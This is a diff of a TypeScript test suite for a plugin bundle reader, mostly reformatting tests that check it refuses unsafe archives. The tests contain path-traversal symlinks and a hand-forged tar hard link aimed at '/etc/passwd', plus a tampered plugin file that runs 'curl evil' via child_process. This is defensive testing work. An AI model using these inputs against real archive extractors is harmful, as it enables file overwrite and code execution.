@@ -195,7 +195,9 @@ async function validBundle(
   );
   const revision = objectId("commit", commit);
   const files = mutate.files ? mutate.files(pluginFiles.map((f) => ({ ...f }))) : pluginFiles;
-  let pack = `name: synthetic\nplugins:\n  - name: demo\n    repo: acme/mono\n    subdir: plugins/demo\n    ref: ${revision}\n`;
+  let pack =
+    "name: synthetic\nplugins:\n  - name: demo\n    repo: acme/mono\n    subdir: plugins/demo\n    " +
+    `ref: ${revision}\n`;
   if (mutate.pack) pack = mutate.pack(pack);
   const manifest: BundleManifest = {
     format: BUNDLE_FORMAT,
@@ -324,71 +326,81 @@ describe("bundle reader", () => {
     expect(err.message).toContain("absolute path");
   });
 
-  it("symlinks leaving the plugin folder, absolute link targets, paths through links and hard links are refused", async () => {
-    for (const [link, why] of [
-      ["../../../etc", /leaves its plugin folder/],
-      ["../other-plugin/x", /leaves its plugin folder/],
-      ["/etc/passwd", /absolute or empty target/],
-    ] as const) {
-      const bad = await validBundle({
-        entries: (e) => [...e, { path: "plugins/demo/escape", type: "symlink", linkpath: link }],
+  it(
+    "symlinks leaving the plugin folder, absolute link " + "targets, paths through links and hard links are refused",
+    async () => {
+      for (const [link, why] of [
+        ["../../../etc", /leaves its plugin folder/],
+        ["../other-plugin/x", /leaves its plugin folder/],
+        ["/etc/passwd", /absolute or empty target/],
+      ] as const) {
+        const bad = await validBundle({
+          entries: (e) => [...e, { path: "plugins/demo/escape", type: "symlink", linkpath: link }],
+        });
+        const err = await refusal(bad.bytes);
+        expect(err.code, link).toBe("E_BUNDLE_UNSAFE_ENTRY");
+        expect(err.message, link).toMatch(why);
+      }
+      const through = await validBundle({
+        entries: (e) => [
+          ...e,
+          { path: "plugins/demo/sub", type: "symlink", linkpath: "bin" },
+          { path: "plugins/demo/sub/x", type: "file", data: Buffer.from("x") },
+        ],
       });
-      const err = await refusal(bad.bytes);
-      expect(err.code, link).toBe("E_BUNDLE_UNSAFE_ENTRY");
-      expect(err.message, link).toMatch(why);
-    }
-    const through = await validBundle({
-      entries: (e) => [
-        ...e,
-        { path: "plugins/demo/sub", type: "symlink", linkpath: "bin" },
-        { path: "plugins/demo/sub/x", type: "file", data: Buffer.from("x") },
-      ],
-    });
-    expect((await refusal(through.bytes)).message).toMatch(/goes through the symlink/);
-    // A hard link: the type flag of a file header changed to '1' with a link name.
-    const tar = Buffer.from(gunzipSync((await validBundle()).bytes));
-    const at = tar.indexOf(Buffer.from("plugins/demo/index.js\0"));
-    tar.write("1", at + 156, "ascii");
-    tar.write("../../../../etc/passwd", at + 157, "ascii");
-    tar.write("00000000000\0", at + 124, "ascii");
-    tarHeaderChecksum(tar.subarray(at));
-    const err = await refusal(regzip(tar));
-    expect(err.code).toMatch(/E_BUNDLE_(UNSAFE_ENTRY|CORRUPT)/);
-  });
+      expect((await refusal(through.bytes)).message).toMatch(/goes through the symlink/);
+      // A hard link: the type flag of a file header changed to '1' with a link name.
+      const tar = Buffer.from(gunzipSync((await validBundle()).bytes));
+      const at = tar.indexOf(Buffer.from("plugins/demo/index.js\0"));
+      tar.write("1", at + 156, "ascii");
+      tar.write("../../../../etc/passwd", at + 157, "ascii");
+      tar.write("00000000000\0", at + 124, "ascii");
+      tarHeaderChecksum(tar.subarray(at));
+      const err = await refusal(regzip(tar));
+      expect(err.code).toMatch(/E_BUNDLE_(UNSAFE_ENTRY|CORRUPT)/);
+    },
+  );
 
-  it("a file outside the listed plugins, a pack that does not match its hash, a manifest that is not JSON", async () => {
-    const extra = await validBundle({
-      entries: (e) => [...e, { path: "plugins/stowaway/index.js", type: "file", data: Buffer.from("x") }],
-    });
-    expect((await refusal(extra.bytes)).message).toContain("not part of any plugin listed in the manifest");
-    const packChanged = await validBundle({
-      entries: (e) =>
-        e.map((x) =>
-          x.path === "hermes-pack.yaml" ? { ...x, data: Buffer.from(`${x.data!.toString()}# more\n`) } : x,
-        ),
-    });
-    expect((await refusal(packChanged.bytes)).code).toBe("E_BUNDLE_INTEGRITY");
-    const notJson = await validBundle({
-      entries: (e) => e.map((x) => (x.path === "hermes-bundle.json" ? { ...x, data: Buffer.from("{nope") } : x)),
-    });
-    expect((await refusal(notJson.bytes)).code).toBe("E_BUNDLE_MANIFEST_INVALID");
-    const noManifest = await validBundle({ entries: (e) => e.filter((x) => x.path !== "hermes-bundle.json") });
-    expect((await refusal(noManifest.bytes)).code).toBe("E_BUNDLE_MANIFEST_INVALID");
-  });
+  it(
+    "a file outside the listed plugins, a pack that does " + "not match its hash, a manifest that is not JSON",
+    async () => {
+      const extra = await validBundle({
+        entries: (e) => [...e, { path: "plugins/stowaway/index.js", type: "file", data: Buffer.from("x") }],
+      });
+      expect((await refusal(extra.bytes)).message).toContain("not part of any plugin listed in the manifest");
+      const packChanged = await validBundle({
+        entries: (e) =>
+          e.map((x) =>
+            x.path === "hermes-pack.yaml" ? { ...x, data: Buffer.from(`${x.data!.toString()}# more\n`) } : x,
+          ),
+      });
+      expect((await refusal(packChanged.bytes)).code).toBe("E_BUNDLE_INTEGRITY");
+      const notJson = await validBundle({
+        entries: (e) => e.map((x) => (x.path === "hermes-bundle.json" ? { ...x, data: Buffer.from("{nope") } : x)),
+      });
+      expect((await refusal(notJson.bytes)).code).toBe("E_BUNDLE_MANIFEST_INVALID");
+      const noManifest = await validBundle({ entries: (e) => e.filter((x) => x.path !== "hermes-bundle.json") });
+      expect((await refusal(noManifest.bytes)).code).toBe("E_BUNDLE_MANIFEST_INVALID");
+    },
+  );
 
-  it("changed plugin files are refused even when the attacker also fixes the integrity: the git tree no longer matches", async () => {
-    const changed = await validBundle({
-      files: (f) =>
-        f.map((x) =>
-          x.path === "index.js"
-            ? { ...x, data: Buffer.from("import('child_process').then(c => c.exec('curl evil'))\n") }
-            : x,
-        ),
-    });
-    const e = await refusal(changed.bytes);
-    expect(e.code).toBe("E_BUNDLE_REVISION");
-    expect(e.message).toMatch(/form git tree [0-9a-f]{40}, not [0-9a-f]{40}/);
-  });
+  it(
+    "changed plugin files are refused even when the attacker also fixes the integrity: the git tree no longer " +
+      "matches",
+    async () => {
+      const changed = await validBundle({
+        files: (f) =>
+          f.map((x) =>
+            x.path === "index.js"
+              ? { ...x, data: Buffer.from("import('child_process').then(c => c.exec('curl evil'))\n") }
+              : x,
+          ),
+      });
+      const e = await refusal(changed.bytes);
+      expect(e.code).toBe("E_BUNDLE_REVISION");
+      expect(e.message).toMatch(/form git tree [0-9a-f]{40}, not [0-9a-f]{40}/);
+    },
+  );
 
   it("a consistent tree that is not the claimed revision is refused by the proof", async () => {
     const otherFiles = sampleFiles()
